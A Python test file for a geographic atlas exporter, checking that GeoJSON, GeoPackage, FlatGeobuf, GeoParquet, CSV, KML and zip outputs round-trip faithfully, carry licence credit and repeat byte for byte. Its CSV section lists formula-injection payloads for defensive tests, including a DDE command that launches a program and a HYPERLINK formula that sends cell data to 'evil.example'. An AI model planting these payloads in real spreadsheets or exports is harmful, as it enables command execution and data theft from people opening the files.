"""Every format says the same: read back by other programs and compared, for each layer and several views; bytes repeat."""

from __future__ import annotations

import csv
import hashlib
import html
import io
import json
import math
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import tempfile
import zipfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import geopandas as gpd
import numpy as np
import pyarrow.parquet as pq
import pyogrio
import pytest
import shapely
from hostile import poison
from hypothesis import given, settings
from hypothesis import strategies as st

import onefile  # noqa: F401
from geo.atlas import Atlas, open_atlas
from geo.errors import UnknownFormat, UnknownLayer
from geo.export import documents
from geo.export.csv_file import WKT, defuse
from geo.export.formats import FORMATS, formats_for
from geo.export.json_text import plain
from geo.export.provenance import newest_day
from geo.geodesy.coordinates import tidy
from geo.paths import ROOT
from geo.records.catalog import Catalog, read_catalog
from geo.view.parameters import DEFAULT, View

pytestmark = pytest.mark.slow

SMALL = Path(__file__).parent / "cases" / "small"
SHIPPED = open_atlas(ROOT / "data")
VIEWS = {
    "all": View(basis="all"),
    "article": DEFAULT,
    "military": View(topic=("military",), basis="all"),
    "none": View(text="no fact holds these words: xyzzy"),
}
ONE = [item.id for item in formats_for("layer")]


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> Atlas:
    folder, _ = poison(tmp_path_factory.mktemp("poisoned") / "data")
    return Atlas(read_catalog(folder))


def changed(folder: Path, file: str, old: str, new: str) -> Atlas:
    """Open the small data folder with one text of it changed."""
    shutil.copytree(SMALL, folder)
    text = (folder / file).read_text(encoding="utf-8")
    assert old in text
    (folder / file).write_text(text.replace(old, new, 1), encoding="utf-8")
    return Atlas(read_catalog(folder))


def read(ident: str, content: bytes, folder: Path, layer: str | None = None) -> gpd.GeoDataFrame:
    """Read a file back: GeoParquet with pyarrow, since this GDAL has no driver for it, all others with GDAL."""
    path = folder / f"read.{FORMATS[ident].ending}"
    path.write_bytes(content)
    if ident == "parquet":
        return gpd.read_parquet(path)
    # GDAL would guess dates in GeoJSON; the dates of this atlas are texts in every format.
    options = {"DATE_AS_STRING": "YES"} if ident == "geojson" else {}
    # A GeoPackage holds a table of styles too; its layer is the first.
    found: gpd.GeoDataFrame = pyogrio.read_dataframe(path, layer=layer or 0, **options)
    return found


def told(value: Any, wanted: Any) -> Any:
    """Return a cell that was read as the atlas holds it: JSON text as a list, CSV's text of a number as a number."""
    if isinstance(value, np.ndarray | list):
        return list(value)
    if value is None or value == "" or (isinstance(value, float) and math.isnan(value)):
        return None
    if isinstance(wanted, list):
        return json.loads(value)
    if isinstance(wanted, bool) and isinstance(value, str):
        return {"true": True, "false": False}[value.lower()]
    return type(wanted)(value) if isinstance(wanted, int | float) else value


def same_shape(found: Any, wanted: Any) -> bool:
    if found is None or wanted is None:
        return found is wanted
    return bool(shapely.normalize(found).equals_exact(shapely.normalize(tidy(wanted)), 0))


def held(ident: str, gdf: gpd.GeoDataFrame) -> gpd.GeoDataFrame:
    """Return what a format holds of a layer: FlatGeobuf no feature without a geometry, all others every feature."""
    return gdf[gdf.geometry.notna()] if ident == "fgb" else gdf


def assert_same(found: gpd.GeoDataFrame, wanted: gpd.GeoDataFrame, fields: list[str]) -> None:
    """Hold a frame that was read against the atlas's own: ids, order, every field of every feature, and geometries."""
    assert len(found) == len(wanted)
    if len(wanted):
        assert list(found["id"]) == list(wanted["id"])
    for field in fields:
        values = [plain(value) for value in wanted[field]]
        assert [told(value, own) for value, own in zip(found[field], values, strict=True)] == values, field
    assert all(map(same_shape, found.geometry, wanted.geometry))


@pytest.mark.parametrize("view", VIEWS.values(), ids=VIEWS)
@pytest.mark.parametrize("layer", SHIPPED.layers)
@pytest.mark.parametrize("ident", ONE)
def test_every_format_holds_the_same(ident: str, layer: str, view: View, tmp_path: Path) -> None:
    table = SHIPPED.layer(layer)
    wanted = held(ident, table.gdf[SHIPPED.select(view).features[layer]])
    found = read(ident, documents.document(SHIPPED, layer, ident, view).content, tmp_path)
    # GeoJSON has no place for the fields of features that are not there.
    fields = [] if ident == "geojson" and wanted.empty else list(table.fields)
    assert [name for name in found.columns if name in fields] == fields
    assert_same(found, wanted, fields)


def test_the_cases_hold_what_is_hard() -> None:
    frames = [layer.gdf for layer in SHIPPED.layers.values()]
    assert any(shape is None for gdf in frames for shape in gdf.geometry)
    assert any(isinstance(value, list) for gdf in frames for column in gdf for value in gdf[column])
    assert {shape.geom_type for gdf in frames for shape in gdf.geometry if shape} >= {"Point", "MultiPolygon"}
    none = SHIPPED.select(VIEWS["none"]).features
    assert not any(none[name].any() for name, layer in SHIPPED.layers.items() if not layer.bears_none.any())
    assert SHIPPED.select(VIEWS["military"]).features["events"].any()
    assert not SHIPPED.select(VIEWS["military"]).features["events"].all()


@pytest.mark.parametrize("view", VIEWS.values(), ids=VIEWS)
def test_all_layers_stand_in_one_file(view: View, tmp_path: Path) -> None:
    package = documents.document(SHIPPED, None, "gpkg", view).content
    archive = zipfile.ZipFile(io.BytesIO(documents.document(SHIPPED, None, "zip", view).content))
    assert archive.testzip() is None
    assert archive.read("atlas.gpkg") == package
    names = {f"{layer}.{ending}" for layer in SHIPPED.layers for ending in ("csv", "fgb", "geojson", "qml")}
    told = {"CITATION.cff", "annotations.jsonld", "datapackage.json", "linked-places.json", "ro-crate-metadata.json"}
    assert set(archive.namelist()) == names | told | {"atlas.gpkg", "CITATION.txt", "LICENCE.txt", "README.txt"}
    for name, table in SHIPPED.layers.items():
        wanted = table.gdf[SHIPPED.select(view).features[name]]
        assert_same(read("gpkg", package, tmp_path, name), wanted, list(table.fields))
        for ending in ("csv", "fgb", "geojson"):
            assert archive.read(f"{name}.{ending}") == documents.document(SHIPPED, name, ending, view).content
    assert [name for name, _ in pyogrio.list_layers(tmp_path / "read.gpkg")] == [*SHIPPED.layers, "layer_styles"]


views = st.builds(
    View,
    **{
        name: st.sets(st.sampled_from(sorted(SHIPPED.vocabulary[name])), max_size=2).map(lambda ids: tuple(sorted(ids)))
        for name in ("topic", "actor", "said_by", "modality", "evidence")
    },
    undated=st.sampled_from(["keep", "drop", "only"]),
)


@settings(max_examples=15, deadline=None)
@given(views, st.sampled_from(list(SHIPPED.layers)))
def test_any_view_has_the_same_features_in_every_format(view: View, layer: str) -> None:
    table = SHIPPED.layer(layer)
    wanted = table.gdf[SHIPPED.select(view).features[layer]]
    with tempfile.TemporaryDirectory() as folder:
        for ident in ONE:
            found = read(ident, documents.document(SHIPPED, layer, ident, view).content, Path(folder))
            assert list(found.get("id", ())) == list(held(ident, wanted)["id"]), ident


@pytest.mark.parametrize("ident", FORMATS)
def test_hostile_texts_come_back_as_they_are(poisoned: Atlas, ident: str, tmp_path: Path) -> None:
    # Of the others these two are no layers to be read: test_all_layers_stand_in_one_file and test_onefile.py do.
    if ident in {"zip", "html"}:
        return
    for name, table in poisoned.layers.items():
        assert_same(
            read(ident, documents.document(poisoned, name, ident, VIEWS["all"]).content, tmp_path),
            held(ident, table.gdf),
            list(table.fields),
        )


@pytest.mark.parametrize("ident", ONE)
def test_a_layer_that_no_fact_is_in_gives_a_valid_file(ident: str, tmp_path: Path) -> None:
    atlas = changed(tmp_path / "small", "layers.yaml", "lifecycle: none", "lifecycle: none, topics: [economy]")
    (bare,) = (name for name, table in atlas.layers.items() if table.gdf.empty)
    assert len(read(ident, documents.document(atlas, bare, ident, DEFAULT).content, tmp_path)) == 0


# Credit, licence, citation.


@pytest.mark.parametrize("ident", ["gpkg", "fgb", "parquet"])
@pytest.mark.parametrize("layer", SHIPPED.layers)
def test_credit_and_licence_are_in_the_files_own_metadata(ident: str, layer: str, tmp_path: Path) -> None:
    content = documents.document(SHIPPED, layer, ident, VIEWS["military"]).content
    head = json.loads(documents.geojson(SHIPPED, layer, VIEWS["military"]).content)
    if ident == "parquet":
        raw = pq.read_schema(io.BytesIO(content)).metadata
        found = {key.decode(): value.decode() for key, value in raw.items()}
    else:
        (tmp_path / f"x.{ident}").write_bytes(content)
        found = pyogrio.read_info(tmp_path / f"x.{ident}", layer=0)["layer_metadata"]
        title = found["IDENTIFIER" if ident == "gpkg" else "TITLE"]
        assert title == head["title"]
        assert head["attribution"] in found["DESCRIPTION"]
        assert head["licence"] in found["DESCRIPTION"]
    assert found["attribution"] == head["attribution"]
    assert found["licence"] == head["licence"]
    assert SHIPPED.hash in found["citation"]
    assert "topic=military" in found["citation"]


def test_kml_and_zip_tell_credit_and_licence() -> None:
    document = ET.fromstring(documents.document(SHIPPED, "islands", "kml", DEFAULT).content)
    words = " ".join(element.text or "" for element in document.iter("{http://www.opengis.net/kml/2.2}description"))
    head = json.loads(documents.geojson(SHIPPED, "islands", DEFAULT).content)
    assert head["attribution"] in words
    assert head["licence"] in words
    archive = zipfile.ZipFile(io.BytesIO(documents.document(SHIPPED, None, "zip", DEFAULT).content))
    assert SHIPPED.hash in archive.read("CITATION.txt").decode()
    licence = archive.read("LICENCE.txt").decode()
    points = [place.point for place in SHIPPED.catalog.places.values() if place.point]
    assert points
    assert all(f"{point.source}: {point.licence}" in licence for point in points)
    assert all(f"{item.origin}: {item.licence}" in licence for item in SHIPPED.catalog.outlines.values())


def test_kml_names_and_describes_for_a_reader() -> None:
    space = "{http://www.opengis.net/kml/2.2}"
    document = ET.fromstring(documents.document(SHIPPED, "deployments", "kml", VIEWS["all"]).content)
    gdf = SHIPPED.layer("deployments").gdf
    marks = list(document.iter(f"{space}Placemark"))
    assert [mark.findtext(f"{space}name") for mark in marks] == list(gdf["name_en"])
    for mark, statement in zip(marks, gdf["statement"], strict=True):
        assert html.unescape(mark.findtext(f"{space}description") or "").startswith(statement)


def test_a_kml_description_is_text_and_no_html(poisoned: Atlas) -> None:
    document = ET.fromstring(documents.document(poisoned, "deployments", "kml", DEFAULT).content)
    told = [element.text or "" for element in document.iter("{http://www.opengis.net/kml/2.2}description")]
    assert any("&lt;script&gt;" in text for text in told)
    assert not any("<" in text.replace("<br/>", "") for text in told)


def test_a_geoparquet_says_what_the_standard_asks(tmp_path: Path) -> None:
    (tmp_path / "x.parquet").write_bytes(documents.document(SHIPPED, "events", "parquet", DEFAULT).content)
    geo = json.loads(pq.read_schema(tmp_path / "x.parquet").metadata[b"geo"])
    column = geo["columns"][geo["primary_column"]]
    gdf = gpd.read_parquet(tmp_path / "x.parquet")
    assert geo["version"] == "1.1.0"
    assert (column["encoding"], column["orientation"]) == ("WKB", "counterclockwise")
    assert column["geometry_types"] == sorted(set(gdf.geom_type))
    assert column["bbox"] == pytest.approx(list(gdf.total_bounds))
    assert column["crs"]["id"] == {"authority": "EPSG", "code": 4326}
    assert all(part.exterior.is_ccw for shape in gdf.geometry for part in getattr(shape, "geoms", ()))


def test_types_are_the_same_whatever_the_view(tmp_path: Path) -> None:
    for layer in SHIPPED.layers:
        for ident in ("gpkg", "fgb", "parquet"):
            kinds = []
            for view in VIEWS.values():
                path = tmp_path / f"x.{ident}"
                path.write_bytes(documents.document(SHIPPED, layer, ident, view).content)
                if ident == "parquet":
                    kinds.append([(field.name, str(field.type)) for field in pq.read_schema(path)])
                else:
                    info = pyogrio.read_info(path, layer=0)
                    kinds.append(list(zip(info["fields"], info["ogr_types"], strict=True)))
            assert kinds[0] == kinds[1] == kinds[2]


# CSV.

HOSTILE = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"y")',
    "+1+cmd|'x'!A0",
    "-2+3+cmd|'x'!A0",
    "@SUM(1+1)",
    " =1+1",
    "＝1+1",
    "quiet; =1+1",
    "quiet;=1+1",
    'a","=1+1',
    "two\n=1+1",
)
STARTS = tuple("=+-@＝＋－＠\t\r\n")


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_is_a_formula(text: str, tmp_path: Path) -> None:
    atlas = changed(
        tmp_path / "small", "facts.yaml", "statement: Ann offered a deal.", f"statement: {json.dumps(text)}"
    )
    content = documents.document(atlas, "events", "csv", DEFAULT).content.decode("utf-8-sig")
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(content, newline=""), strict=True)}
    stored = atlas.catalog.facts["offer"].statement
    assert rows["offer-at-port"]["statement"].replace("'", "") == stored.replace("'", "")
    # A spreadsheet of a country that writes decimals with a comma cuts cells at semicolons.
    for separator in (",", ";"):
        for cells in csv.reader(io.StringIO(content, newline=""), delimiter=separator):
            for cell in cells:
                assert not cell.lstrip().startswith(STARTS), (separator, cell)


risky = st.text(st.sampled_from("=+-@＝\t\r\n ;,\"'1a|") | st.characters(codec="utf-8"), max_size=12)


@given(risky)
def test_defuse_leaves_no_formula_and_changes_nothing_else(text: str) -> None:
    safe = defuse(text)
    assert safe.replace("'", "") == text.replace("'", "")
    if not re.fullmatch(r"[+-]?\d+(\.\d+)?", text):
        for piece in re.split(r"[;\t\r\n]", safe):
            assert not piece.lstrip().startswith(STARTS)
        assert not safe.startswith(STARTS)
    if not re.search(r"[=+\-@＝＋－＠\t\r\n]", text):
        assert safe == text


@pytest.mark.parametrize(
    "text", ["-1.5", "+7", "2018-09-12", "a - b", "x=y", "", "islands of the Kuril chain; two - or three"]
)
def test_numbers_and_plain_texts_stay(text: str) -> None:
    assert defuse(text) == text


def test_a_negative_number_stays_a_number() -> None:
    atlas = Atlas(read_catalog(SMALL))
    atlas.layer("events").gdf["uncertainty_m"] = -1.5
    row = next(
        csv.DictReader(io.StringIO(documents.document(atlas, "events", "csv", DEFAULT).content.decode("utf-8-sig")))
    )
    assert row["uncertainty_m"] == "-1.5"


def test_csv_is_utf8_with_a_mark_and_rfc_4180() -> None:
    for layer, table in SHIPPED.layers.items():
        content = documents.document(SHIPPED, layer, "csv", DEFAULT).content
        assert content.startswith("\ufeffid,".encode())
        text = content.decode("utf-8-sig")
        assert text.count("\n") == text.count("\r\n")
        rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
        assert rows[0] == [*table.fields, WKT]
        assert {len(row) for row in rows} == {len(rows[0])}


# The same bytes each time.


def test_bytes_repeat_in_another_process() -> None:
    script = (
        "import hashlib, json, sys\n"
        "import onefile\n"
        "from geo.atlas import atlas\n"
        "from geo.export.documents import document\n"
        "from geo.export.formats import FORMATS\n"
        "from geo.view.parameters import View\n"
        "opened, found = atlas(), {}\n"
        "for item in FORMATS.values():\n"
        "    for name in ([*opened.layers] if 'layer' in item.scopes else [None]):\n"
        "        found[f'{item.id} {name}'] = document(opened, name, item.id, View(topic=('military',), basis='all')).etag\n"
        "print(json.dumps(found))\n"
    )
    env = {name: value for name, value in os.environ.items() if name != "ATLAS_DATA"} | {
        "PYTHONHASHSEED": "7",
        "TZ": "Asia/Tokyo",
    }
    done = subprocess.run([sys.executable, "-c", script], cwd=ROOT, env=env, capture_output=True, text=True, check=True)
    fresh = Atlas(SHIPPED.catalog)
    for key, etag in json.loads(done.stdout).items():
        ident, name = key.split()
        content = documents.document(fresh, None if name == "None" else name, ident, VIEWS["military"]).content
        assert hashlib.sha256(content).hexdigest()[:32] == etag, key


def test_files_bear_the_day_of_the_data_and_not_the_present(tmp_path: Path) -> None:
    day = newest_day(SHIPPED.catalog)
    assert day is not None
    (tmp_path / "x.gpkg").write_bytes(documents.document(SHIPPED, None, "gpkg", DEFAULT).content)
    with sqlite3.connect(tmp_path / "x.gpkg") as package:
        changes = package.execute("SELECT last_change FROM gpkg_contents").fetchall()
        stamps = package.execute("SELECT timestamp FROM gpkg_metadata_reference").fetchall()
        stamps += package.execute("SELECT update_time FROM layer_styles").fetchall()
    package.close()
    assert len(changes) == len([*SHIPPED.layers, "layer_styles"])
    assert stamps
    assert {stamp for (stamp,) in changes + stamps} == {f"{day.isoformat()}T00:00:00.000Z"}
    archive = zipfile.ZipFile(io.BytesIO(documents.document(SHIPPED, None, "zip", DEFAULT).content))
    assert {entry.date_time for entry in archive.infolist()} == {(day.year, day.month, day.day, 0, 0, 0)}


def test_data_without_a_dated_source_can_be_packed(tmp_path: Path) -> None:
    atlas = changed(tmp_path / "small", "sources.yaml", "    date: 2020-05-04\n", "")
    assert newest_day(atlas.catalog) is None
    archive = zipfile.ZipFile(io.BytesIO(documents.document(atlas, None, "zip", DEFAULT).content))
    assert archive.infolist()[0].date_time[0] == 1980
    assert "1980" not in archive.read("CITATION.txt").decode()


def test_threads_make_the_same_bytes() -> None:
    def make(job: tuple[Catalog, View]) -> bytes:
        return documents.document(Atlas(job[0]), None, "gpkg", job[1]).content

    jobs = [
        (catalog, view) for catalog in (SHIPPED.catalog, read_catalog(SMALL)) for view in (DEFAULT, VIEWS["none"])
    ] * 2
    with ThreadPoolExecutor(4) as pool:
        assert list(pool.map(make, jobs)) == [make(job) for job in jobs]
    assert pyogrio.get_gdal_config_option("OGR_CURRENT_DATE") is None


def test_no_file_is_left_behind(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    fresh = Atlas(SHIPPED.catalog)
    for item in FORMATS.values():
        documents.document(fresh, "events" if "layer" in item.scopes else None, item.id, DEFAULT)
    assert list(tmp_path.iterdir()) == []


def test_control_characters_harm_no_format(tmp_path: Path) -> None:
    atlas = changed(
        tmp_path / "small", "facts.yaml", "statement: Ann offered a deal.", r'statement: "Ann\a offered\0 it"'
    )
    for ident in ONE:
        gdf = read(ident, documents.document(atlas, "events", ident, DEFAULT).content, tmp_path)
        statement = gdf.set_index("id")["statement"]["offer-at-port"]
        # GDAL ends a text of GeoJSON at NUL, which JSON can hold; the other files have no such character.
        assert statement == ("Ann\a offered" if ident == "geojson" else "Ann offered it"), ident


# The registry.


def test_what_is_not_there_is_refused() -> None:
    with pytest.raises(UnknownFormat, match="no format 'shp' for one layer: there are geojson, gpkg"):
        documents.document(SHIPPED, "islands", "shp", DEFAULT)
    with pytest.raises(UnknownFormat, match="no format 'geojson' for all layers: there are gpkg, zip"):
        documents.document(SHIPPED, None, "geojson", DEFAULT)
    with pytest.raises(UnknownLayer):
        documents.document(SHIPPED, "rivers", "gpkg", DEFAULT)


def test_the_document_of_formats_is_the_registry() -> None:
    text = (ROOT / "docs" / "formats.md").read_text(encoding="utf-8")
    rows = re.findall(r"^\| `(\w+)` \| `\.(\w+)` \| `([^`]+)` \| ([^|]+) \|", text, flags=re.MULTILINE)
    holds = {("layer",): "one layer", ("layer", "atlas"): "one layer, or all", ("atlas",): "all layers"}
    assert rows == [(item.id, item.ending, item.media_type, holds[item.scopes]) for item in FORMATS.values()]


def test_gdal_waits_until_a_file_is_asked_for() -> None:
    script = "import sys, geo.atlas, geo.export.formats; geo.atlas.atlas(); sys.exit('pyogrio' in sys.modules)"
    assert subprocess.run([sys.executable, "-c", script], cwd=ROOT, check=False).returncode == 0


@pytest.mark.skipif(
    shutil.which("ogrinfo") is None and os.environ.get("CI") != "true",
    reason="ogrinfo is not installed (Debian: gdal-bin); pyogrio stands in",
)
@pytest.mark.parametrize("view", VIEWS.values(), ids=VIEWS)
@pytest.mark.parametrize("ident", [ident for ident in ONE if ident != "parquet"])
def test_an_older_gdal_reads_every_format(ident: str, view: View, tmp_path: Path) -> None:
    path = tmp_path / f"deployments.{ident}"
    path.write_bytes(documents.document(SHIPPED, "deployments", ident, view).content)
    done = subprocess.run(["ogrinfo", "-ro", "-al", "-so", str(path)], capture_output=True, text=True, check=True)
    wanted = held(ident, SHIPPED.layer("deployments").gdf[SHIPPED.select(view).features["deployments"]])
    assert f"Feature Count: {len(wanted)}\n" in done.stdout
    assert "Layer name: deployments\n" in done.stdout
    assert "Warning" not in done.stdout + done.stderr
